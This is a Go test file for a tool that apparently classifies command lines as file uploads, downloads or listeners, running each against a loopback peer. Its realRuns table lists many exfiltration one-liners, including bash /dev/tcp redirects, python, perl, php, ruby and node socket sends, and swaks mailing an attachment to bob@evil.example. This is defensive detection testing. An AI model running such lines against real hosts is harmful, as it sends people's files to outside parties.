package grammar

import (
	"bufio"
	"crypto/rand"
	"encoding/base64"
	"io"
	"net"
	"net/http"
	"net/http/cgi"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/copywatch/copywatch/internal/testhost"
)

// realRun is a command line that the tool itself runs against a peer in the
// test. The file SRC has contents that nothing else has; what a grammar says of
// the line must be what happened to them.
//
// In the line: HOST:PORT or HOST PORT of a TCP peer, URL of an HTTP server, SRC
// and DST of local files, DIR of a directory with a file named content.
type realRun struct {
	line    string
	grammar string
	tool    string // default: the first word
	pack    string // Debian package
	needs   string // a command that succeeds where the interpreter has what the line loads
	stdin   bool   // SRC is standard input
	want    Direction
	// local: what LocalPaths must be; nil where the line does not tell.
	local []string
}

var realRuns = []realRun{
	{line: `bash -c "cat SRC > /dev/tcp/HOST/PORT"`, grammar: "shell", pack: "bash", want: Upload, local: []string{"SRC"}},
	{line: `bash -c "cat > /dev/tcp/HOST/PORT"`, grammar: "shell", pack: "bash", stdin: true, want: Upload, local: []string{"SRC"}},
	{line: `bash -c "exec 3<>/dev/tcp/HOST/PORT; cat SRC >&3"`, grammar: "shell", pack: "bash", want: Upload, local: []string{"SRC"}},
	{line: `bash -c -x "base64 -d < <(base64 SRC) > /dev/tcp/HOST/PORT"`, grammar: "shell", pack: "bash", want: Upload},
	{line: `bash -c "cat < /dev/tcp/HOST/PORT > DST"`, grammar: "shell", pack: "bash", want: Download, local: []string{"DST"}},
	{line: `bash -c "exec 3<>/dev/tcp/HOST/PORT; cat <&3 >DST"`, grammar: "shell", pack: "bash", want: Download, local: []string{"DST"}},
	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat SRC >&\$REPLY"`, grammar: "shell", pack: "zsh", want: Upload, local: []string{"SRC"}},
	{line: `zsh -c "zmodload zsh/net/tcp; ztcp HOST PORT; cat <&\$REPLY >DST"`, grammar: "shell", pack: "zsh", want: Download, local: []string{"DST"}},
	{line: `gawk "{print |& \"/inet/tcp/0/HOST/PORT\"}" SRC`, grammar: "awk", pack: "gawk", want: Upload, local: []string{"SRC"}},
	{line: `gawk "BEGIN{s=\"/inet/tcp/0/HOST/PORT\"; while ((s |& getline l) > 0) print l > \"DST\"}"`, grammar: "awk", pack: "gawk", want: Download},

	{line: `python3 -c "import urllib.request as r; r.urlopen('URL', data=open('SRC','rb').read())"`, grammar: "python", pack: "python3", want: Upload, local: []string{"SRC"}},
	{line: `python3 -c "import socket; s=socket.create_connection(('HOST',PORT)); s.sendfile(open('SRC','rb'))"`, grammar: "python", pack: "python3", want: Upload, local: []string{"SRC"}},
	{line: `python3 -c "import sys,socket; socket.create_connection(('HOST',PORT)).sendall(sys.stdin.buffer.read())"`, grammar: "python", pack: "python3", stdin: true, want: Upload, local: []string{"SRC"}},
	{line: `python3 -Ic "from urllib.request import urlretrieve as u; u('URL','DST')"`, grammar: "python", pack: "python3", want: Download},
	{line: `python3 -Ic "import urllib.request; urllib.request.urlretrieve('URL','DST')"`, grammar: "python", pack: "python3", want: Download, local: []string{"DST"}},
	{line: `python3 -c "import socket; open('DST','wb').write(socket.create_connection(('HOST',PORT)).makefile('rb').read())"`, grammar: "python", pack: "python3", want: Download, local: []string{"DST"}},
	{line: `python3 -m http.server --bind HOST --directory DIR PORT`, grammar: "python", pack: "python3", want: Listen, local: []string{"DIR"}},
	{line: `python3 -Im http.server -bHOST -dDIR PORT`, grammar: "python", pack: "python3", want: Listen, local: []string{"DIR"}},

	{line: `perl -MIO::Socket -e "\$s=IO::Socket::INET->new(\"HOST:PORT\"); open(F,\"<SRC\"); print \$s \$_ while <F>"`, grammar: "perl", pack: "perl", want: Upload, local: []string{"SRC"}},
	{line: `perl -MIO::Socket -we "my \$s=IO::Socket::INET->new(PeerAddr=>\"HOST\",PeerPort=>PORT); open my \$o,\">\",\"DST\"; print \$o \$_ while <\$s>"`, grammar: "perl", pack: "perl", want: Download, local: []string{"DST"}},
	{line: `perl -MHTTP::Tiny -e "HTTP::Tiny->new->mirror(\"URL\",\"DST\")"`, grammar: "perl", pack: "perl", want: Download, local: []string{"DST"}},
	{line: `perl -MHTTP::Tiny -0777 -ne "HTTP::Tiny->new->post(\"URL\",{content=>\$_})" SRC`, grammar: "perl", pack: "perl", want: Upload, local: []string{"SRC"}},
	{line: `perl -MLWP::Simple -e "getstore(\"URL\",\"DST\")"`, grammar: "perl", pack: "libwww-perl", needs: "perl -MLWP::Simple -e 1", want: Download, local: []string{"DST"}},

	{line: `php -S HOST:PORT -t DIR`, grammar: "php", pack: "php-cli", want: Listen, local: []string{"DIR"}},
	{line: `php -r "copy(\"URL\",\"DST\");"`, grammar: "php", pack: "php-cli", want: Download, local: []string{"DST"}},
	{line: `php -n -r "file_put_contents('DST', file_get_contents('URL'));"`, grammar: "php", pack: "php-cli", want: Download, local: []string{"DST"}},
	{line: `php -r "fwrite(fsockopen('HOST',PORT), file_get_contents('SRC'));"`, grammar: "php", pack: "php-cli", want: Upload, local: []string{"SRC"}},

	{line: `ruby -run -e httpd DIR -p PORT -b HOST`, grammar: "ruby", pack: "ruby-webrick", needs: "ruby -rwebrick -e 1", want: Listen, local: []string{"DIR"}},
	{line: `ruby -ropen-uri -e "File.binwrite('DST', URI.open('URL').read)"`, grammar: "ruby", pack: "ruby", want: Download, local: []string{"DST"}},
	{line: `ruby -rnet/http -e "Net::HTTP.post(URI('URL'), File.read('SRC'))"`, grammar: "ruby", pack: "ruby", want: Upload, local: []string{"SRC"}},
	{line: `ruby -rsocket -e "TCPSocket.new('HOST', PORT).write(File.binread('SRC'))"`, grammar: "ruby", pack: "ruby", want: Upload, local: []string{"SRC"}},

	{line: `node -e "require('fs').createReadStream('SRC').pipe(require('net').connect(PORT,'HOST'))"`, grammar: "node", pack: "nodejs", want: Upload, local: []string{"SRC"}},
	{line: `node -e "require('http').get('URL', r => r.pipe(require('fs').createWriteStream('DST')))"`, grammar: "node", pack: "nodejs", want: Download, local: []string{"DST"}},

	{line: `busybox httpd -f -p HOST:PORT -h DIR`, grammar: "busybox-httpd", tool: "httpd", pack: "busybox", want: Listen, local: []string{"DIR"}},
	{line: `webfsd -F -i HOST -p PORT -r DIR`, grammar: "webserver", pack: "webfs", want: Listen, local: []string{"DIR"}},

	{line: `swaks --to bob@evil.example --from a@b.example --server HOST:PORT --attach @SRC`, grammar: "swaks", pack: "swaks", want: Upload, local: []string{"SRC"}},
	{line: `msmtp --host=HOST --port=PORT --from=a@b.example bob@evil.example`, grammar: "sendmail", pack: "msmtp", stdin: true, want: Upload, local: []string{"SRC"}},
}

// TestRealScripts: what is said of a command line is what the tool does.
func TestRealScripts(t *testing.T) {
	for _, run := range realRuns {
		t.Run(strings.Fields(run.line)[0], func(t *testing.T) {
			t.Parallel()
			p := newScriptPlace(t, &run)
			defer p.close()
			words := splitWords(run.line)
			for i := range words {
				words[i] = p.fill(words[i])
			}
			got := p.said(words)
			assert.Equal(t, run.want, got.Direction, "%q", words)
			switch run.want {
			case Listen:
				p.requireServed(words)
			case Upload:
				p.run(words)
				assert.Contains(t, p.received(), p.content, "%q", words)
			default: // also what cannot be known to be a download
				p.run(words)
				assert.FileExists(t, p.dst, "%q", words)
				assert.Contains(t, read(t, p.dst), p.content, "%q", words)
			}
			if run.local != nil {
				var want []string
				for _, l := range run.local {
					want = append(want, p.fill(l))
				}
				assert.Equal(t, want, got.LocalPaths, "%q", words)
			}
			if run.want == Upload || run.want == Download {
				assert.True(t, slices.ContainsFunc(got.Remotes, func(r Remote) bool { return r.Host == p.host && r.Port == p.port }), "%q: %+v", words, got.Remotes)
			}
		})
	}
}

// splitWords splits at blanks outside of double quotes, where \ escapes.
func splitWords(line string) (words []string) {
	for line != "" {
		word, n := shellWord(line)
		words = append(words, word)
		line = strings.TrimLeft(line[n:], " ")
	}
	return words
}

// scriptPlace is where one command runs: its files, and the peer that it talks to.
type scriptPlace struct {
	*testing.T
	line          *realRun
	content       string
	dir, src, dst string
	host          string
	port          int
	got           chan string
	close         func()
}

func newScriptPlace(t *testing.T, run *realRun) *scriptPlace {
	word := strings.Fields(run.line)[0]
	testhost.WantCommand(t, word, run.pack)
	if needs := strings.Fields(run.needs); len(needs) > 0 && exec.Command(needs[0], needs[1:]...).Run() != nil {
		t.Skipf("optional: %s fails (Debian package %s)", run.needs, run.pack)
	}
	p := &scriptPlace{T: t, line: run, content: rand.Text(), dir: t.TempDir(), got: make(chan string, 16), close: func() {}}
	p.dst = filepath.Join(t.TempDir(), "dst")
	p.src = filepath.Join(p.dir, "content")
	require.NoError(t, os.WriteFile(p.src, []byte(p.content+"\n"), 0o600))
	switch {
	case run.want == Listen:
		l := listenLoopback(t)
		p.host, p.port = addressOf(t, l.Addr().String())
		l.Close() // the tool listens there
	case strings.Contains(run.line, "URL"):
		server := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, q *http.Request) {
			body, _ := io.ReadAll(q.Body)
			p.got <- string(body)
			io.WriteString(w, p.content+"\n")
		}))
		p.close = server.Close
		p.host, p.port = addressOf(t, strings.TrimPrefix(server.URL, "http://"))
	default:
		l := listenLoopback(t)
		p.close = func() { l.Close() }
		p.host, p.port = addressOf(t, l.Addr().String())
		go p.peer(l)
	}
	return p
}

func listenLoopback(t *testing.T) net.Listener {
	l, err := net.Listen("tcp", "127.0.0.1:0")
	require.NoError(t, err)
	return l
}

func addressOf(t *testing.T, address string) (string, int) {
	host, port, err := net.SplitHostPort(address)
	require.NoError(t, err)
	n, err := strconv.Atoi(port)
	require.NoError(t, err)
	return host, n
}

// peer takes one connection: it speaks SMTP, sends the contents, or takes what comes.
func (p *scriptPlace) peer(l net.Listener) {
	conn, err := l.Accept()
	if err != nil {
		return
	}
	defer conn.Close()
	conn.SetDeadline(time.Now().Add(30 * time.Second))
	switch {
	case p.line.grammar == "swaks" || p.line.grammar == "sendmail":
		p.got <- speakSMTP(conn)
	case p.line.want == Upload:
		all, _ := io.ReadAll(conn)
		p.got <- string(all)
	default:
		io.WriteString(conn, p.content+"\n")
	}
}

// speakSMTP is a server that takes every message.
func speakSMTP(conn net.Conn) string {
	io.WriteString(conn, "220 test\r\n")
	var message strings.Builder
	data := false
	for lines := bufio.NewScanner(conn); lines.Scan(); {
		line := lines.Text()
		switch {
		case data && line == ".":
			data = false
			io.WriteString(conn, "250 ok\r\n")
		case data:
			message.WriteString(decodedLine(line))
		case strings.HasPrefix(line, "DATA"):
			data = true
			io.WriteString(conn, "354 go on\r\n")
		case strings.HasPrefix(line, "QUIT"):
			io.WriteString(conn, "221 bye\r\n")
			return message.String()
		default:
			io.WriteString(conn, "250 ok\r\n")
		}
	}
	return message.String()
}

// decodedLine is a line of a message without its base64.
func decodedLine(line string) string {
	if decoded, err := base64.StdEncoding.DecodeString(line); err == nil && len(decoded) > 0 {
		return string(decoded)
	}
	return line
}

func (p *scriptPlace) fill(word string) string {
	return strings.NewReplacer("SRC", p.src, "DST", p.dst, "DIR", p.dir,
		"URL", "http://"+net.JoinHostPort(p.host, strconv.Itoa(p.port))+"/x", "HOST", p.host, "PORT", strconv.Itoa(p.port)).Replace(word)
}

// said is what the grammar says of the line.
func (p *scriptPlace) said(words []string) Transfer {
	c := &Command{Tool: words[0], Args: words[1:], Directory: p.dir}
	if p.line.tool != "" { // an applet
		c.Tool, c.Args = words[1], words[2:]
	}
	if p.line.stdin {
		c.Stdin = Stream{Type: StreamFile, Path: p.src}
	}
	g, ok := Find(p.line.grammar)
	require.True(p, ok, p.line.grammar)
	return g(c)
}

func (p *scriptPlace) command(words []string) *exec.Cmd {
	cmd := exec.CommandContext(p.Context(), words[0], words[1:]...)
	cmd.Dir = p.dir
	cmd.Env = withoutProxies(os.Environ())
	if p.line.stdin {
		in, err := os.Open(p.src)
		require.NoError(p, err)
		p.Cleanup(func() { in.Close() })
		cmd.Stdin = in
	}
	return cmd
}

func withoutProxies(env []string) []string {
	env = slices.DeleteFunc(slices.Clone(env), func(v string) bool {
		name, _, _ := strings.Cut(v, "=")
		return strings.HasSuffix(strings.ToLower(name), "_proxy")
	})
	return append(env, "GIT_CONFIG_GLOBAL=/dev/null", "GIT_CONFIG_NOSYSTEM=1", "GIT_TERMINAL_PROMPT=0",
		"GIT_AUTHOR_NAME=a", "GIT_AUTHOR_EMAIL=a@b", "GIT_COMMITTER_NAME=a", "GIT_COMMITTER_EMAIL=a@b")
}

func (p *scriptPlace) run(words []string) {
	out, err := p.command(words).CombinedOutput()
	require.NoError(p, err, "%q: %s", words, out)
}

func (p *scriptPlace) received() string {
	select {
	case s := <-p.got:
		return s
	case <-time.After(20 * time.Second):
		p.Fatal("nothing came")
		return ""
	}
}

// requireServed starts a server and gets the contents from it.
func (p *scriptPlace) requireServed(words []string) {
	cmd := p.command(words)
	require.NoError(p, cmd.Start())
	defer cmd.Wait()
	defer cmd.Process.Kill()
	url := "http://" + net.JoinHostPort(p.host, strconv.Itoa(p.port)) + "/content"
	var body []byte
	require.Eventually(p, func() bool {
		answer, err := http.Get(url)
		if err != nil {
			return false
		}
		defer answer.Body.Close()
		body, err = io.ReadAll(answer.Body)
		return err == nil
	}, 20*time.Second, 20*time.Millisecond, "%q does not listen", words)
	assert.Contains(p, string(body), p.content, "%q", words)
}

func read(t *testing.T, path string) string {
	t.Helper()
	content, err := os.ReadFile(path)
	require.NoError(t, err)
	return string(content)
}

// TestRealGit pushes, clones and bundles a commit that nothing else has.
func TestRealGit(t *testing.T) {
	git := testhost.NeedCommand(t, "git", "git")
	content := rand.Text()
	root := t.TempDir()
	repo, bare := filepath.Join(root, "work"), filepath.Join(root, "bare.git")
	run := func(args ...string) Transfer {
		cmd := exec.CommandContext(t.Context(), git, args...)
		cmd.Dir, cmd.Env = root, withoutProxies(os.Environ())
		out, err := cmd.CombinedOutput()
		require.NoError(t, err, "git %q: %s", args, out)
		return gitTool(&Command{Tool: "git", Args: args, Directory: root})
	}
	for _, args := range [][]string{{"init", "-q", repo}, {"init", "-q", "--bare", bare}, {"-C", bare, "config", "http.receivepack", "true"}} {
		assert.Equal(t, NoCopy, run(args...).Direction, "%q", args)
	}
	require.NoError(t, os.WriteFile(filepath.Join(repo, "content"), []byte(content), 0o600))
	assert.Equal(t, NoCopy, run("-C", repo, "add", "content").Direction)
	assert.Equal(t, NoCopy, run("-C", repo, "commit", "-qm", "push").Direction)
	has := func(repository, branch string) {
		t.Helper()
		out, err := exec.CommandContext(t.Context(), git, "-C", repository, "show", branch+":content").CombinedOutput()
		require.NoError(t, err, string(out))
		assert.Equal(t, content, string(out))
	}

	said := run("-C", repo, "push", "-q", bare, "HEAD:one")
	has(bare, "one")
	assert.Equal(t, Transfer{Direction: Local, LocalPaths: []string{repo, bare}}, said)

	said = run("-C", repo, "push", "-q", "file://"+bare, "HEAD:two")
	has(bare, "two")
	assert.Equal(t, Transfer{Direction: Local, LocalPaths: []string{repo, bare}}, said)

	execPath, err := exec.CommandContext(t.Context(), git, "--exec-path").Output()
	require.NoError(t, err)
	server := httptest.NewServer(&cgi.Handler{
		Path: filepath.Join(strings.TrimSpace(string(execPath)), "git-http-backend"),
		Env:  []string{"GIT_PROJECT_ROOT=" + root, "GIT_HTTP_EXPORT_ALL=1", "GIT_CONFIG_COUNT=1", "GIT_CONFIG_KEY_0=safe.directory", "GIT_CONFIG_VALUE_0=*"},
	})
	defer server.Close()
	url := server.URL + "/bare.git"
	remote, _ := parseURL(url)

	said = run("-C", repo, "-c", "http.version=HTTP/1.1", "push", "-q", "--atom", url, "HEAD:three")
	has(bare, "three")
	assert.Equal(t, Transfer{Direction: Upload, Remotes: []Remote{remote}, LocalPaths: []string{repo}, Signals: []Signal{OptionAbbreviated}, Protocol: "http", Channel: Clear}, said)

	clone := filepath.Join(root, "clone")
	said = run("clone", "-q", "-bthree", url, clone)
	assert.Equal(t, content, read(t, filepath.Join(clone, "content")))
	assert.Equal(t, Transfer{Direction: Download, Remotes: []Remote{remote}, LocalPaths: []string{clone}, Protocol: "http", Channel: Clear}, said)

	said = run("-C", clone, "fetch", "-q")
	assert.Equal(t, Transfer{Direction: Download, LocalPaths: []string{clone}, Signals: []Signal{Alias}}, said)

	said = run("-C", repo, "push", "-q", url, ":three")
	assert.Equal(t, NoCopy, said.Direction, "a deletion")

	bundle := filepath.Join(root, "x.bundle")
	said = run("-C", repo, "bundle", "create", "-q", bundle, "HEAD")
	assert.FileExists(t, bundle)
	assert.Equal(t, Transfer{Direction: Local, LocalPaths: []string{repo, bundle}}, said)

	said = run("clone", "-q", bundle, filepath.Join(root, "from-bundle"))
	assert.Equal(t, content, read(t, filepath.Join(root, "from-bundle", "content")))
	assert.Equal(t, Local, said.Direction)

	archive := filepath.Join(root, "x.tar")
	said = run("-C", repo, "archive", "-o"+archive, "HEAD")
	assert.Contains(t, read(t, archive), content)
	assert.Equal(t, Transfer{Direction: Local, LocalPaths: []string{archive}}, said)
}
